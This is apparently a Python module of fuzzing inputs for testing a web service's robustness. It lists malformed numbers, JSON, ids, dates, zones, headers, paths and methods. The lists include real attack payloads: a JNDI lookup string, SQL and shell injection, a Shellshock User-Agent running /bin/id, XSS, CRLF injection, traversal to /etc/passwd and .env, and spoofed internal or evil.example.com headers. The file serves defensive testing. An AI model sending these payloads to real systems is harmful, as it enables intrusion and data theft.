"""Values that have broken other services: as ids, numbers, texts, dates, zones, tokens and headers.

It must not know where any of them is put.
"""

# fmt: off

from __future__ import annotations

from typing import Final

_DEEP: Final = 3_000

# As they stand in a JSON text: the last ones are no JSON at all, though some readers take them.
NUMBERS: Final = (
    "-1", "-0", "0", "0.5", "1e-400", "9007199254740992", "18446744073709551616", "1e22", "1" + "0" * 400, "1e400",
    "-1e400", "NaN", "Infinity", "-Infinity", "0x10", "01", "1.", ".5", "+1", "1_000", "9" * 5_000,
)
OTHER_JSON: Final = (
    "null", "true", "false", '""', "[]", "{}", "[null]", '{"":null}', '"true"', '"1"', "[[[[[]]]]]", '{"a":1,"a":1}',
    '{"__proto__":{"admin":true}}', '{"$where":"1"}', "[" * _DEEP + "]" * _DEEP, "'x'", "undefined",
    "{" + ",".join(f'"k{number}":{number}' for number in range(1_500)) + "}",
)
TEXTS: Final = (
    "", " ", "a" * 1_501, "a" * 20_000, "\U0001f525\U0001f9ca", "e\u0301", "\u202egnp.exe", "\u200f", "\ufeff",
    "\ufffe", "\x00", "\x07", "\x1b[31m", "\n", "\r\nSet-Cookie: a=b", "\u2028", "%00", "%s%n", "${jndi:ldap://x/a}",
    "{{7*7}}", "<script>alert(1)</script>", "' OR 1=1 --", "; ls", "$(id)", "null", "undefined", "NaN", "true", "-1",
    "1e309",
)
IDS: Final = (
    "/", "a/b", "../a", "..", ".", "...", "//", "__x__", "____", "__a", "__proto__", "a b", "a\tb", "a\n", "\\..\\",
    "a" * 128, "a" * 129, "a" * 1_500, "a" * 1_501, "\u00e9", "\u0130", "check-in.2026-03-02", "check-in", "*", "?",
    "#", "~", "-", ":", "a:b", "0", "null", *TEXTS,
)
DATES: Final = (
    "0000-00-00", "0000-01-01", "0001-01-01", "1969-12-31", "1970-01-01", "1970-01-02", "2026-02-29", "2026-02-30",
    "2199-12-31", "2200-01-01", "9999-12-31", "10000-01-01", "-2026-03-02", "2026-3-2", "20260302", "2026-W10-1",
    "2026-03-02T00:00:00Z", "\uff12\uff10\uff12\uff16-03-02", "2026-03-02 ", "today", "1772409600", "",
)
INSTANTS: Final = (
    "0000-01-01T00:00:00Z", "0001-01-01T00:00:00+23:59", "9999-12-31T23:59:59-23:59", "1969-12-31T23:59:59Z",
    "2200-01-01T00:00:00Z", "2026-03-02T24:00:00Z", "2026-03-02T08:00:60Z", "2026-03-02T08:00:00", "now", "1772438400",
    "2026-03-02T08:00:00+99:99", "2026-03-02T08:00:00." + "9" * 400 + "Z", "2026-03-02T08:00:00Z\n", *DATES,
)
ZONES: Final = (
    "../../etc/passwd", "/etc/localtime", "posixrules", "posix/UTC", "right/UTC", "Factory", "localtime", "utc", "UTC ",
    "Europe", "Europe/", "Europe/Amsterdam\x00", "Europe/../UTC", "Europe/amsterdam", "Mars/Olympus", "zone.tab",
    "tzdata", "GMT+25", "UTC+1", "+01:00", "CET-1CEST", "__init__", "Europe.Amsterdam", "C:\\", *TEXTS,
)
MEDIA_TYPES: Final = (
    "", "text/plain", "application/xml", "application/jsonx", "application/json5", "multipart/form-data; boundary=x",
    "application/x-www-form-urlencoded", "application/problem+json", "*/*", "json", "application/json\x00", "a" * 2_000,
)
# With a header's value that no request needs.
ODD_HEADERS: Final = (
    ("X-HTTP-Method-Override", "DELETE"), ("X-Method-Override", "DELETE"), ("X-Original-URL", "/maintenance"),
    ("X-Rewrite-URL", "/maintenance"), ("X-Forwarded-Host", "evil.example.com"), ("X-Forwarded-For", "127.0.0.1"),
    ("X-Forwarded-Proto", "https"), ("X-User-Id", "ada"), ("X-CloudScheduler", "true"),
    ("X-CloudScheduler-ScheduleTime", "yesterday"), ("X-AppEngine-Cron", "true"),
    ("X-Goog-Authenticated-User-Email", "accounts.google.com:root@example.com"), ("X-Firebase-AppCheck", "a.b.c"),
    ("SCRIPT_NAME", "/x"), ("PATH_INFO", "/maintenance"), ("X-Forwarded-Protocol", "ssl"),
    ("Forwarded", "for=127.0.0.1;host=evil"), ("Cookie", "__session=ada; admin=true"), ("Origin", "null"),
    ("Origin", "https://evil.example.com"), ("If-None-Match", '"' + "a" * 3_000), ("If-Match", '"other"'),
    ("If-Modified-Since", "x"), ("Range", "bytes=0-99999999999"), ("Accept", "text/html"),
    ("Accept-Encoding", "gzip, br, *;q=0"), ("Expect", "100-continue"), ("Upgrade", "websocket"),
    ("traceparent", "00-" + "f" * 32 + "-" + "f" * 16 + "-01"), ("traceparent", "../../x"),
    ("X-Cloud-Trace-Context", "a" * 32 + "/99999999999999999999;o=9"), ("User-Agent", "() { :;}; /bin/id"),
    ("Referer", "javascript:alert(1)"),
)
# What goes before a path, behind it, or in its place.
PATHS: Final = (
    "//", "/streak//", "/../streak", "/streak/..", "/streak/%2e%2e/maintenance", "/%2e%2e/%2e%2e/etc/passwd",
    "/streak;x=1", "/streak/%00", "/streak/%ff", "/streak/%0a", "/streak%0d%0aX:%20y", "/streak/%252e", "/STREAK",
    "/streak/.git/config", "/.env", "/admin", "/streak/activities/a/b", "/streak/activities/", "/calendar/x",
    "/health/../streak", "/" + "a" * 2_000, "*", "http://evil.example.com", "http://evil.example.com/streak",
    "evil.example.com:443", "/streak#x", "/?x", "/_ah/warmup",
)
METHODS: Final = (
    "GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE", "CONNECT", "PROPFIND", "QUERY", "get",
    "G\x00T",
)
